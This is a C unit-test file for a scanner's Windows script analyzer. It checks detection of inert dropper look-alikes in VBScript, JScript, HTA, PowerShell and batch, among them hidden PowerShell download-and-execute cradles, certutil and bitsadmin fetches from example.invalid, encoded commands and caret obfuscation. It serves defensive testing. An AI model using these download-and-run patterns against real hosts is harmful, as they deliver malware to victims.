/*
 * test_script.c - Windows scripts (analyzers/an_script.c): for each language an inert
 * dropper look-alike (URLs under example.invalid, harmless commands) that must be reported,
 * and a benign twin that must stay clean; web JavaScript and POSIX shell scripts are never
 * WSH.  Odd and truncated inputs must not crash.
 */
#define _GNU_SOURCE
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "testutil.h"

struct scase {
    const char *name;
    const char *text;
    const char *id; /* a finding that must be there; NULL: no script.* finding at all */
    int sev;        /* its severity */
};

static const struct scase cases[] = {
    /* VBScript */
    {"invoice.vbs",
     "Dim x, s\r\nSet x = CreateObject(\"MSXML2.XMLHTTP\")\r\n"
     "x.Open \"GET\", \"http://example.invalid/a.txt\", False\r\nx.Send\r\n"
     "Set s = CreateObject(\"ADODB.Stream\")\r\n"
     "CreateObject(\"WScript.Shell\").Run \"notepad.exe\", 0\r\n",
     "script.download", FG_SEV_HIGH},
    {"run.vbs", "Set sh = CreateObject(\"WScript.Shell\")\nsh.Run \"cmd /c echo hi\", 0\n",
     "script.execute", FG_SEV_MEDIUM},
    {"regread.vbs",
     "Option Explicit\nDim sh, v\nSet sh = CreateObject(\"WScript.Shell\")\n"
     "v = sh.RegRead(\"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\ProductName\")\n"
     "WScript.Echo v\n",
     NULL, 0},
    /* JScript under WSH */
    {"doc.js",
     "var sh = new ActiveXObject(\"WScript.Shell\");\n"
     "var x = new ActiveXObject(\"MSXML2.XMLHTTP\");\nx.open(\"GET\", \"http://example.invalid/b\", false);\n"
     "var st = new ActiveXObject(\"ADODB.Stream\");\nsh.Run(\"calc.exe\", 0);\n",
     "script.execute", FG_SEV_HIGH},
    {"jquery.min.js",
     "(function(w){var x=new XMLHttpRequest();x.open('GET','/api/items');x.send();"
     "w.run=function(){return 1};var r=/a/.exec('abc');})(window);\n",
     NULL, 0},
    /* HTA */
    {"update.hta",
     "<html><head><hta:application id=\"a\" windowstate=\"minimize\"/>\n"
     "<script language=\"VBScript\">\n"
     "CreateObject(\"WScript.Shell\").Run \"powershell -w hidden iex (New-Object "
     "Net.WebClient).DownloadString('http://example.invalid/x')\", 0\n</script></head></html>\n",
     "script.download", FG_SEV_HIGH},
    {"page.html",
     "<!doctype html><html><head><script src=\"jquery.js\"></script><script>\n"
     "var req = new XMLHttpRequest(); req.open('GET', 'https://example.invalid/data.json');\n"
     "req.onload = function () { document.body.innerHTML = req.responseText; }; req.send();\n"
     "</script></head><body><p>Hello</p></body></html>\n",
     NULL, 0},
    /* PowerShell */
    {"setup.ps1",
     "$u = 'http://example.invalid/p.txt'\n"
     "$t = (New-Object Net.WebClient).DownloadString($u)\nInvoke-Expression $t\n",
     "script.download", FG_SEV_HIGH},
    {"get.ps1", "$d = \"$env:TEMP\\a.txt\"\nInvoke-WebRequest -Uri http://example.invalid/a -OutFile $d\n",
     "script.download", FG_SEV_MEDIUM},
    {"obf.ps1",
     "$a = ('x1y2z' -replace '1','' -replace '2','' -replace 'z','' -join '') -join ''\n",
     "script.obfuscation", FG_SEV_MEDIUM},
    {"services.ps1",
     "param([string]$Name = '*')\n"
     "Get-Service -Name $Name | Where-Object { $_.Status -eq 'Running' } |\n"
     "    Sort-Object DisplayName | Format-Table -AutoSize\n",
     NULL, 0},
    /* batch */
    {"go.bat",
     "@echo off\r\npowershell -NoP -w hidden -enc VwByAGkAdABlAC0ATwB1AHQAcAB1AHQAIABoAGUAbABsAG8A\r\n",
     "script.encoded", FG_SEV_HIGH},
    {"fetch.cmd",
     "@echo off\r\ncertutil -urlcache -split -f http://example.invalid/a.txt %TEMP%\\a.txt\r\n",
     "script.download", FG_SEV_MEDIUM},
    {"decode.cmd",
     "@echo off\r\ncertutil -decode invoice.txt %TEMP%\\invoice.exe >nul\r\n"
     "%TEMP%\\invoice.exe\r\n",
     "script.encoded", FG_SEV_MEDIUM},
    {"decodehex.bat", "@echo off\r\ncertutil.exe /decodehex a.hex a.dll\r\n", "script.encoded",
     FG_SEV_MEDIUM},
    {"checksum.bat", "@echo off\r\ncertutil -hashfile setup.exe SHA256\r\n", NULL, 0},
    {"caret.bat", "@echo off\r\nc^m^d /c e^c^h^o hi\r\n", "script.obfuscation", FG_SEV_MEDIUM},
    {"backup.bat",
     "@echo off\r\nsetlocal\r\nset SRC=%USERPROFILE%\\Documents\r\n"
     "xcopy \"%SRC%\" \"D:\\Backup\\%DATE:~-4%\" /E /I /Y\r\necho done\r\n",
     NULL, 0},
    /* no extension: the language comes from the content */
    {"attachment",
     "@echo off\r\nbitsadmin /transfer j http://example.invalid/a %TEMP%\\a.txt\r\n"
     "start \"\" cmd /c type %TEMP%\\a.txt\r\n",
     "script.download", FG_SEV_HIGH},
    /* POSIX shell is not Windows script */
    {"postinst",
     "#!/bin/sh\nset -e\nif [ \"$1\" = configure ]; then\n"
     "  wget -q -O /tmp/x http://example.invalid/list && cmd /c true\nfi\n#DEBHELPER#\n",
     NULL, 0},
    {"notes.txt", "Use curl or wget to fetch http://example.invalid/ and run it.\n", NULL, 0},
};

static int script_findings(const fg_result *r, const char *id, int *sev)
{
    int n = 0;
    for (size_t k = 0; k < fg_result_object_count(r); k++) {
        const struct fg_object_info *o = fg_result_object(r, k);
        for (size_t i = 0; i < o->nfindings; i++) {
            if (strncmp(o->findings[i].id, "script.", 7))
                continue;
            n++;
            if (id && !strcmp(o->findings[i].id, id))
                *sev = (int)o->findings[i].severity;
        }
    }
    return n;
}

static void test_cases(void **state)
{
    (void)state;
    fg_engine *e = tu_engine(NULL);
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        const struct scase *c = &cases[i];
        fg_result *r = tu_scan(e, c->name, c->text, strlen(c->text));
        int sev = -1;
        int n = script_findings(r, c->id, &sev);
        int ok = c->id ? sev == c->sev : n == 0;
        if (!ok) {
            print_message("case '%s' failed\n", c->name);
            tu_dump(r);
        }
        assert_true(ok);
        fg_result_free(r);
    }
    fg_engine_free(e);
}

/* The encoded command is decoded into the evidence. */
static void test_decoded(void **state)
{
    (void)state;
    fg_engine *e = tu_engine(NULL);
    const char *t = cases[11].text;
    fg_result *r = tu_scan(e, "go.bat", t, strlen(t));
    const struct fg_object_info *o = tu_object(r, NULL);
    int found = 0;
    for (size_t i = 0; i < o->nfindings; i++)
        if (!strcmp(o->findings[i].id, "script.encoded"))
            found = strstr(o->findings[i].evidence, "Write-Output hello") != NULL;
    assert_true(found);
    assert_int_equal(fg_result_verdict(r), FG_VERDICT_MALICIOUS);
    fg_result_free(r);
    fg_engine_free(e);
}

/* Long and odd inputs: truncated markers, huge lines, a long base64 literal. */
static void test_odd(void **state)
{
    (void)state;
    fg_engine *e = tu_engine(NULL);
    static const char *const odd[] = {"-e", "-enc ", "-e AAAA", ".run,", "^", ":~", "\n\n\n",
                                      "chr(", "-encodedcommand \"", "@echo off"};
    for (size_t i = 0; i < sizeof odd / sizeof odd[0]; i++) {
        fg_result *r = tu_scan(e, "x.bat", odd[i], strlen(odd[i]));
        fg_result_free(r);
        r = tu_scan(e, "x.vbs", odd[i], strlen(odd[i]));
        fg_result_free(r);
    }
    size_t n = 200000;
    char *big = malloc(n + 1);
    assert_non_null(big);
    memcpy(big, "$x = '", 6);
    for (size_t i = 6; i < n; i++)
        big[i] = "QUJD"[i % 4];
    big[n] = 0;
    fg_result *r = tu_scan(e, "blob.ps1", big, n);
    assert_true(tu_has_finding(r, "script.obfuscation"));
    fg_result_free(r);
    free(big);
    fg_engine_free(e);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test_setup_teardown(test_cases, tu_tmpdir_setup, tu_tmpdir_teardown),
        cmocka_unit_test_setup_teardown(test_decoded, tu_tmpdir_setup, tu_tmpdir_teardown),
        cmocka_unit_test_setup_teardown(test_odd, tu_tmpdir_setup, tu_tmpdir_teardown),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
